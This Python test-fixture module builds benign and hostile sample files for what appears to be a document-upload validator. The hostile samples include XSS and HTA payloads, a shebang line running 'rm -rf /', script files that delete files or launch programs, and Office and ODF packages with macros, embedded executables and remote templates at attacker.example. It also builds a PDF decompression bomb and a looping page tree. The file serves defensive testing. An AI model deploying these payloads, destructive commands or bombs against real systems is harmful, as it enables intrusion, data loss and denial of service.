"""Small real files of every accepted type, and hostile ones, made in memory with the
standard library. The packages have the structure Office and LibreOffice write: content
types, relationships and a main part for OOXML; mimetype first and a manifest for ODF."""

from __future__ import annotations

import io
import zipfile

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # an OLE compound file's header
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
VBA_TYPE = "application/vnd.ms-office.vbaProject"
VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
OLE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"
TEMPLATE_REL = ("http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                "attachedTemplate")
HYPERLINK_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


def _zip(entries: list[tuple[str, bytes]], stored_first: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for i, (name, data) in enumerate(entries):
            method = zipfile.ZIP_STORED if stored_first and i == 0 else zipfile.ZIP_DEFLATED
            zf.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return buf.getvalue()


def _types(main_part: str, main_type: str, overrides: dict[str, str] | None = None) -> bytes:
    items = "".join(f'<Override PartName="/{p}" ContentType="{t}"/>'
                    for p, t in {main_part: main_type, **(overrides or {})}.items())
    return (f'<?xml version="1.0"?><Types xmlns="{CT}">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            f"{items}</Types>").encode()


def _rels(*relationships: tuple[str, str, str]) -> bytes:
    items = "".join(
        f'<Relationship Id="rId{i}" Type="{kind}" Target="{target}"'
        + (' TargetMode="External"' if mode else "") + "/>"
        for i, (kind, target, mode) in enumerate(relationships, start=1))
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{items}</Relationships>'.encode()


def docx(macro: bool = False, extra: list[tuple[str, bytes]] | None = None,
         overrides: dict[str, str] | None = None,
         word_rels: list[tuple[str, str, str]] | None = None) -> bytes:
    entries = [
        ("[Content_Types].xml", _types("word/document.xml", WORD_MAIN, overrides)),
        ("_rels/.rels", _rels((OFFICE_DOC, "word/document.xml", ""))),
        ("word/document.xml", b'<?xml version="1.0"?><w:document xmlns:w="urn:w"/>'),
    ]
    if word_rels:
        entries.append(("word/_rels/document.xml.rels", _rels(*word_rels)))
    if macro:
        entries.append(("word/vbaProject.bin", OLE))
    return _zip(entries + (extra or []))


def xlsx() -> bytes:
    return _zip([
        ("[Content_Types].xml", _types("xl/workbook.xml", SHEET_MAIN)),
        ("_rels/.rels", _rels((OFFICE_DOC, "xl/workbook.xml", ""))),
        ("xl/workbook.xml", b'<?xml version="1.0"?><workbook xmlns="urn:x"/>'),
    ])


def odf(kind: str, extra: list[tuple[str, bytes]] | None = None, manifest_extra: str = "",
        content: bytes = b'<?xml version="1.0"?><office:document-content '
                         b'xmlns:office="urn:o"/>') -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{kind}"
    manifest = (
        '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
        'opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        f"{manifest_extra}</manifest:manifest>").encode()
    return _zip([("mimetype", mimetype.encode()), ("content.xml", content),
                 ("META-INF/manifest.xml", manifest)] + (extra or []), stored_first=True)


def pdf() -> bytes:
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def rtf() -> bytes:
    return b"{\\rtf1\\ansi Freezing orders under article 93(1)(k).}"


def txt() -> bytes:
    return "Procédure de gel des avoirs : autorité centrale, délais, urgence.\n".encode()


ACCEPTED = {
    "pdf": pdf, "docx": docx, "xlsx": xlsx, "odt": lambda: odf("text"),
    "ods": lambda: odf("spreadsheet"), "rtf": rtf, "txt": txt,
}

# Text that a browser could take for markup somewhere in it, or that is not UTF-8 text.
LEGAL_TEXT = "Article 93(1)(k): identification, tracing and freezing of proceeds. " * 200
HOSTILE_TEXT = {
    "html after a comment": b"<!-- minutes --><html><body><script>alert(1)</script>",
    "html after text": b"Minutes of the meeting\n<p onclick=alert(1)>x</p>",
    "svg after a prologue comment": b"<?xml version='1.0'?><!-- x --><svg onload=alert(1)/>",
    "hta": b"<HTA:APPLICATION ID='x'><script language='VBScript'>CreateObject</script>",
    "a tag deep in the file": (LEGAL_TEXT + "<script>alert(1)</script>").encode(),
    "a closing tag": (LEGAL_TEXT + "</title><img src=x>").encode(),
    "a shebang": b"#!/bin/sh\nrm -rf /\n",
    "latin-1": "Latin-1 caf\xe9".encode("latin-1"),
    "a NUL": b"text with a NUL \x00 byte in it",
}
# Plain text that only looks like a script: accepted, and served as .txt.
TEXT_SCRIPTS = {
    "run.bat": b"@echo off\r\ndel /q C:\\Windows\\Temp\\*\r\n",
    "run.ps1": b"Write-Host 'hello'; Remove-Item -Recurse C:\\x\n",
    "run.vbs": b"Set shell = CreateObject(\"WScript.Shell\")\nshell.Run \"calc\"\n",
    "run.js": b"var shell = new ActiveXObject('WScript.Shell'); shell.Run('calc');\n",
    "link.url": b"[InternetShortcut]\r\nURL=file://attacker.example/share\r\n",
}
HOSTILE_PACKAGES = {
    "docx with vbaProject.bin": docx(macro=True),
    "docx with the macro part renamed macros.bin": docx(
        extra=[("word/macros.bin", OLE)], overrides={"word/macros.bin": VBA_TYPE},
        word_rels=[(VBA_REL, "macros.bin", "")]),
    "docx with the macro part renamed, no declaration": docx(
        extra=[("word/VBAPROJECT.BIN", OLE)]),
    "docx with a macro-enabled main part": _zip([
        ("[Content_Types].xml", _types(
            "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")),
        ("_rels/.rels", _rels((OFFICE_DOC, "word/document.xml", ""))),
        ("word/document.xml", b"<w:document xmlns:w='urn:w'/>")]),
    "docx embedding an exe in an OLE package": docx(
        extra=[("word/embeddings/oleObject1.bin", OLE + b"MZ\x90\x00 payload.exe")],
        overrides={"word/embeddings/oleObject1.bin": OLE_TYPE},
        word_rels=[(OLE_REL, "embeddings/oleObject1.bin", "")]),
    "docx with a bare exe inside": docx(extra=[("word/media/image1.png", b"MZ\x90\x00\x03")]),
    "docx with a remote template": docx(word_rels=[
        (TEMPLATE_REL, "https://attacker.example/t.dotm", "x")]),
    "docx with an external non-hyperlink relationship": docx(word_rels=[
        ("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image",
         "https://attacker.example/track.png", "x")]),
    "odt with Basic macros": odf("text", extra=[
        ("Basic/Standard/Module1.xml", b"<script:module/>"),
        ("Basic/script-lc.xml", b"<library:libraries/>")]),
    "odt with a script binding": odf("text", content=(
        b'<?xml version="1.0"?><office:document-content xmlns:office="urn:o" '
        b'xmlns:script="urn:s"><script:event-listener xlink:href="vnd.sun.star.script:'
        b'Standard.Module1.Main?language=Basic&amp;location=application"/>'
        b"</office:document-content>")),
    "odt with an embedded OLE object": odf("text", extra=[("Object 1", OLE)],
                                           manifest_extra=(
        '<manifest:file-entry manifest:full-path="Object 1" '
        'manifest:media-type="application/vnd.sun.star.oleobject"/>')),
    "a zip that is not an office file": _zip([("readme.txt", b"hello")]),
}
ACCEPTED_PACKAGES = {
    "docx with a hyperlink": docx(word_rels=[(HYPERLINK_REL, "https://www.icc-cpi.int/", "x")]),
}


def _pdf_objects(objects: list[bytes]) -> bytes:
    """A PDF with these objects (numbered from 1; the first is the catalog) and a true xref."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1,
                                                                          xref)
    return bytes(out)


def pdf_with_text(pages: list[str]) -> bytes:
    """One page per string, each drawn in Helvetica (text a reader can extract)."""
    n = len(pages)
    font = 3 + 2 * n
    kids = b" ".join(b"%d 0 R" % (3 + 2 * i) for i in range(n))
    objects = [b"<</Type/Catalog/Pages 2 0 R>>",
               b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, n)]
    for i, text in enumerate(pages):
        stream = b"BT /F1 12 Tf 72 720 Td (%s) Tj ET" % text.encode("latin-1")
        objects.append(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]"
                       b"/Resources<</Font<</F1 %d 0 R>>>>/Contents %d 0 R>>" % (font, 4 + 2 * i))
        objects.append(b"<</Length %d>>\nstream\n%s\nendstream" % (len(stream), stream))
    objects.append(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>")
    return _pdf_objects(objects)


def pdf_bomb(expanded_mib: int = 1024) -> bytes:
    """A page whose content stream inflates from about a megabyte to `expanded_mib` MiB."""
    import zlib

    squeeze = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)
    packed = b"".join(squeeze.compress(chunk) for _ in range(expanded_mib)) + squeeze.flush()
    return _pdf_objects([
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>",
        b"<</Length %d/Filter/FlateDecode>>\nstream\n" % len(packed) + packed
        + b"\nendstream",
    ])


def pdf_page_loop() -> bytes:
    """A page tree whose only kid is the tree itself."""
    return _pdf_objects([b"<</Type/Catalog/Pages 2 0 R>>",
                         b"<</Type/Pages/Kids[2 0 R]/Count 1>>"])
